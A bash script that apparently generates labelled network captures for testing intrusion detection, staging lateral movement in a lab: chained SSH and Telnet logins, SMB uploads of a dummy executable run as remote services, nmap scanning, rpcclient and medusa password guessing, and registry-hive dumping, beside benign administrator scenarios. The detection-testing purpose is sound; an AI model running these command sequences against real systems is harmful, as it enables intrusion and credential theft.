#!/bin/bash
# From host to host: chains of logins with other people's accounts, a whole intrusion, and administrators who go the same way every day.
# shellcheck source=lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
# shellcheck source=services.sh
source "$RECORD_DIR/services.sh"
# shellcheck source=logins.sh
source "$RECORD_DIR/logins.sh"
# shellcheck source=domain.sh
source "$RECORD_DIR/domain.sh"

ATTACKER=10.20.1.66
ADMIN=10.20.1.30
FIRST=10.20.2.31
SECOND=10.20.2.32
THIRD=10.20.2.33

# ssh_hosts NAME=ADDRESS...: SSH servers with the same keys and with passwords for the ward's account.
ssh_hosts() {
    local pair first=1
    for pair in "$@"; do
        if [[ -n $first ]]; then
            sshd_on "${pair%=*}" "${pair#*=}"
            first=
        else
            sed "/^ListenAddress/d" "$WORK/sshd_config" >"$WORK/sshd_config_${pair%=*}"
            echo "ListenAddress ${pair#*=}" >>"$WORK/sshd_config_${pair%=*}"
            echo "${pair#*=} $(cut -d ' ' -f 1-2 "$WORK/host_key.pub")" >>"$WORK/known_hosts"
            service "${pair%=*}" /usr/sbin/sshd -D -f "$WORK/sshd_config_${pair%=*}"
            answering "${pair%=*}" "${pair#*=}" 22
        fi
    done
}

# typed FILE LINE...: an expect script that types these lines after one another, each when a prompt is there.
typed() {
    local file=$1 line
    shift
    {
        echo 'set timeout 10'
        echo 'set send_human {.06 .15 1 .04 .4}'
        echo "spawn $1"
        shift
        echo 'expect -re {[\$#] $}'
        for line in "$@"; do
            printf 'send '"${QUICK:--h}"' {%s}\nsend "\\r"\nexpect -re {[\\$#] $}\nsleep 1\n' "$line"
        done
        printf 'send -h "exit\\r"\nexpect eof\n'
    } >"$file"
}

ward_hosts() {
    programs expect
    hospital clients servers
    host attacker clients $ATTACKER
    host admin clients $ADMIN
    host first servers $FIRST
    host second servers $SECOND
    host third servers $THIRD
}

SHELL_THERE='env -i PS1="ward\$ " TERM=xterm HOME=/tmp bash --norc --noprofile'

record_lateral_ssh_hops() {
    begin lateral-ssh-hops attack "From a workstation to a server by SSH, from its shell to a second server and from there to a third, each while the one before is open, and commands are typed at the end. Who logs in passes encrypted."
    ward_hosts
    ssh_hosts first=$FIRST second=$SECOND third=$THIRD
    capture servers
    typed "$WORK/go.exp" "ssh -F $WORK/ssh_config -tt root@$FIRST {$SHELL_THERE}" "uname -a" "ls /home" \
        "ssh -F $WORK/ssh_config -tt root@$SECOND '$SHELL_THERE'" "id" "last -3" \
        "ssh -F $WORK/ssh_config -tt root@$THIRD '$SHELL_THERE'" "id" "ls /var" "exit" "exit"
    run attacker expect "$WORK/go.exp"
    expect "{technique: T1021.004, actor: $ATTACKER, what: chain of logins over three servers}"
    contains "tcp.flags == 0x002 && tcp.dstport == 22" -eq 3
    contains "tcp.flags == 0x002 && ip.src == $SECOND && ip.dst == $THIRD" -eq 1
    finish
}

record_benign_jump_host() {
    begin benign-jump-host benign "Two administrators reach two servers over the jump host, by SSH, one after another, as they do every day."
    ward_hosts
    ssh_hosts first=$FIRST second=$SECOND third=$THIRD
    capture servers
    local target from
    for from in admin attacker; do
        for target in $SECOND $THIRD; do
            QUICK=-- typed "$WORK/go.exp" "ssh -F $WORK/ssh_config -tt root@$FIRST {$SHELL_THERE}" \
                "ssh -F $WORK/ssh_config -tt root@$target '$SHELL_THERE'" "exit"
            run $from expect "$WORK/go.exp"
        done
    done
    contains "tcp.flags == 0x002 && tcp.dstport == 22 && ip.src == $FIRST" -ge 4
    finish
}

record_lateral_telnet_hops() {
    begin lateral-telnet-hops attack "From a workstation to a server by Telnet as a nurse, and from that session to a second server as somebody else."
    programs inetutils-telnetd inetutils-telnet
    ward_hosts
    account
    userdel -f warddba 2>/dev/null || true
    useradd -M -s /bin/bash warddba
    echo "warddba:$SECRET" | chpasswd
    local pair
    for pair in first=$FIRST second=$SECOND; do
        HOST=${pair#*=}
        sed "s/service server/service ${pair%=*}/" <<<"$(declare -f telnet_server)" | sed "s/answering server/answering ${pair%=*}/; s/telnet_server/telnet_there/; s/inetd.py/inetd-${pair%=*}.py/" >"$WORK/there"
        # shellcheck disable=SC1091
        source "$WORK/there"
        telnet_there
    done
    cat >"$WORK/go.exp" <<END
set timeout 15
spawn telnet $FIRST
expect "login:"; send "$NURSE\r"
expect "assword:"; send "$SECRET\r"
expect -re {[\$#] }; send "id\r"
expect -re {[\$#] }; send "telnet $SECOND\r"
expect "login:"; send "warddba\r"
expect "assword:"; send "$SECRET\r"
expect -re {[\$#] }; send "id\r"
expect -re {[\$#] }; sleep 1; send "exit\r"
expect -re {[\$#] }; sleep 1; send "exit\r"
expect eof
END
    capture servers
    run attacker expect "$WORK/go.exp"
    userdel -f warddba 2>/dev/null || true
    no_account
    expect "{technique: T1021, actor: $ATTACKER, what: chain of logins with a change of user}"
    contains "tcp.flags == 0x002 && tcp.dstport == 23" -eq 2
    finish
}

record_lateral_smb_hops() {
    begin lateral-smb-hops attack "A workstation uses a server's share as one user; that server then opens drive C of a second server as administrator, and this one of a third."
    ward_hosts
    windows_on first SRV-ONE $FIRST
    windows_on second SRV-TWO $SECOND
    windows_on third SRV-THREE $THIRD
    make_bytes "$WORK/tool.exe" 6000
    printf 'MZ\x90\0' | dd of="$WORK/tool.exe" conv=notrunc status=none
    capture servers
    must attacker smbclient -U "administrator%$LOCAL_PASSWORD" "//$FIRST/C\$" -c "cd Windows/Temp; put $WORK/tool.exe tool.exe"
    run attacker net rpc service create tool Tool 'C:\Windows\Temp\tool.exe' -U "administrator%$LOCAL_PASSWORD" -S $FIRST --option='client max protocol=SMB2_10'
    sleep 1
    must first smbclient -U "administrator%$LOCAL_PASSWORD" "//$SECOND/C\$" -c "cd Windows/Temp; put $WORK/tool.exe tool.exe"
    run first net rpc service create tool Tool 'C:\Windows\Temp\tool.exe' -U "administrator%$LOCAL_PASSWORD" -S $SECOND --option='client max protocol=SMB2_10'
    sleep 1
    must second smbclient -U "administrator%$LOCAL_PASSWORD" "//$THIRD/C\$" -c "cd Windows/Temp; put $WORK/tool.exe tool.exe"
    run second net rpc service create tool Tool 'C:\Windows\Temp\tool.exe' -U "administrator%$LOCAL_PASSWORD" -S $THIRD --option='client max protocol=SMB2_10'
    expect "{technique: T1021.002, actor: $ATTACKER, what: program written to drive C and run, target: $FIRST}"
    expect "{technique: T1021.002, actor: $FIRST, what: the same from there, target: $SECOND}"
    expect "{technique: T1021.002, actor: $SECOND, what: the same from there, target: $THIRD}"
    contains "svcctl.opnum == 12" -ge 3
    finish
}

record_staged_intrusion() {
    begin staged-intrusion attack "A whole intrusion from one workstation: it looks for servers (nmap), guesses the local administrator's password of one (rpcclient), logs on there, has hives of the registry saved and fetches them, and with the same password writes a program to drive C of a second server and asks for a service that runs it; the second does the same to a third."
    programs nmap samba-common-bin
    ward_hosts
    host fourth servers 10.20.2.34
    host others servers 10.20.2.20
    more_addresses others 10.20.2.21-30 10.20.2.35-60
    windows_on first SRV-ONE $FIRST
    windows_on second SRV-TWO $SECOND
    windows_on third SRV-THREE $THIRD
    windows_on fourth SRV-FOUR 10.20.2.34
    seq -f 'Ward-Guess-%g' 1 14 >"$WORK/guesses"
    echo "$LOCAL_PASSWORD" >>"$WORK/guesses"
    make_bytes "$WORK/upd.exe" 9000
    printf 'MZ\x90\0' | dd of="$WORK/upd.exe" conv=notrunc status=none
    capture servers
    run attacker nmap -n -sS -Pn -p 22,445,3389 --max-retries 0 -T4 10.20.2.20-60
    sleep 3
    shell attacker "while read -r guess; do rpcclient -U administrator%\$guess $FIRST -c srvinfo --option='client ipc max protocol=SMB2_10'; done <$WORK/guesses"
    sleep 2
    must attacker smbclient -U "administrator%$LOCAL_PASSWORD" "//$FIRST/C\$" -c "ls; cd Windows; ls"
    run attacker $PYTHON "$RECORD_DIR/calls.py" save-hives $FIRST administrator "$LOCAL_PASSWORD" "$WORK/smb-first/c/Windows/Temp"
    run attacker smbclient -U "administrator%$LOCAL_PASSWORD" "//$FIRST/ADMIN\$" -c "cd Temp; ls; get SYSTEM.tmp $WORK/SYSTEM.tmp"
    sleep 2
    must attacker smbclient -U "administrator%$LOCAL_PASSWORD" "//$SECOND/C\$" -c "cd Windows/Temp; put $WORK/upd.exe upd.exe"
    run attacker net rpc service create upd Update 'C:\Windows\Temp\upd.exe' -U "administrator%$LOCAL_PASSWORD" -S $SECOND --option='client max protocol=SMB2_10'
    sleep 3
    must second smbclient -U "administrator%$LOCAL_PASSWORD" "//$THIRD/C\$" -c "cd Windows/Temp; put $WORK/upd.exe upd.exe"
    run second net rpc service create upd Update 'C:\Windows\Temp\upd.exe' -U "administrator%$LOCAL_PASSWORD" -S $THIRD --option='client max protocol=SMB2_10'
    expect "{technique: T1046, actor: $ATTACKER, what: hosts and ports looked for}"
    expect "{technique: T1110.001, actor: $ATTACKER, kind: password guessing, target: $FIRST}"
    expect "{technique: T1003.002, actor: $ATTACKER, what: registry hives saved, target: $FIRST}"
    expect "{technique: T1021.002, actor: $ATTACKER, what: program written to drive C and run, target: $SECOND}"
    expect "{technique: T1021.002, actor: $SECOND, what: the same from there, target: $THIRD}"
    contains "smb2.nt_status == 0xc000006d" -ge 10
    contains "winreg.opnum == 20" -ge 1
    contains "svcctl.opnum == 12" -ge 2
    finish
}

record_guess_ssh_many() {
    begin guess-ssh-many attack "medusa tries two passwords of root on each of fourteen servers over SSH, in vain."
    programs medusa
    ward_hosts
    more_addresses first 10.20.2.50-63
    ssh_hosts first=$FIRST
    sed '/^ListenAddress/d; s/^PasswordAuthentication no/PasswordAuthentication yes/; s/^PermitRootLogin.*/PermitRootLogin yes/' "$WORK/sshd_config" >"$WORK/sshd_password"
    printf 'ListenAddress 0.0.0.0\nPort 2222\nMaxStartups 50:30:100\n' >>"$WORK/sshd_password"
    service first /usr/sbin/sshd -D -f "$WORK/sshd_password"
    answering first 10.20.2.50 2222
    seq -f '10.20.2.%g' 50 63 >"$WORK/targets"
    printf '%s\n' toor Welcome1 >"$WORK/guesses"
    capture servers
    LIMIT=120 run attacker medusa -H "$WORK/targets" -u root -P "$WORK/guesses" -M ssh -n 2222 -t 1 -T 4
    expect "{technique: T1110, actor: $ATTACKER, what: passwords tried on many servers}"
    contains "tcp.flags == 0x002 && tcp.dstport == 2222" -ge 14
    finish
}

record_benign_ssh_fanout() {
    begin benign-ssh-fanout benign "An administrator's script runs one command on five servers by SSH with a key, three times (as Ansible does)."
    ward_hosts
    host fourth servers 10.20.2.34
    host fifth servers 10.20.2.35
    ssh_hosts first=$FIRST second=$SECOND third=$THIRD fourth=10.20.2.34 fifth=10.20.2.35
    capture servers
    local i target
    for i in 1 2 3; do
        for target in $FIRST $SECOND $THIRD 10.20.2.34 10.20.2.35; do
            must admin ssh -F "$WORK/ssh_config" root@$target true
        done
    done
    near_miss identity.password_spraying
    contains "tcp.flags == 0x002 && tcp.dstport == 22" -eq 15
    finish
}

main "$@"
